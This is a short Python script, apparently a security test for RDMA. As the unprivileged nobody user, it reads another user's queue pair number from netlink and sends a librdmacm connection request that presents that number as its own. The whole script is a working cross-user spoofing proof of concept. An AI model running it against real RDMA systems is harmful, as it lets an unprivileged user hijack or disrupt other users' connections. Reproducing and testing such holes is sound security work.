#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
# Runs on: guest
"""As the user nobody, requests a connection by librdmacm and gives another user's QPN as its own.

Usage: foreign_qpn.py DEVICE SOURCE TARGET. SOURCE and TARGET are addresses of the two hosts. The
QPN is that of the device's first connected RC QP, which netlink shows to any user.
"""

import json
import os
import subprocess
import sys

import pyverbs.cm_enums as ce
from pyverbs.cmid import AddrInfo, CMEvent, CMEventChannel, CMID, ConnParam

DEVICE, SOURCE, TARGET = sys.argv[1:]
NOBODY, PORT, TIMEOUT = 65534, "7000", 2000

os.setgroups([])
os.setgid(NOBODY)
os.setuid(NOBODY)
shown = subprocess.run(["rdma", "-j", "resource", "show", "qp", "link", DEVICE], check=True, capture_output=True).stdout
number = next(qp["lqpn"] for qp in json.loads(shown) if qp.get("type") == "RC" and qp.get("state") == "RTS")
channel = CMEventChannel()
identifier = CMID(creator=channel)
address = AddrInfo(src=SOURCE, dst=TARGET, dst_service=PORT, port_space=ce.RDMA_PS_TCP)
for step in (lambda: identifier.resolve_addr(address, TIMEOUT), lambda: identifier.resolve_route(TIMEOUT),
             lambda: identifier.connect(ConnParam(qp_num=number))):
    step()
    event = CMEvent(channel)
    print(f"# {event.event_type}", flush=True)
    event.ack_cm_event()
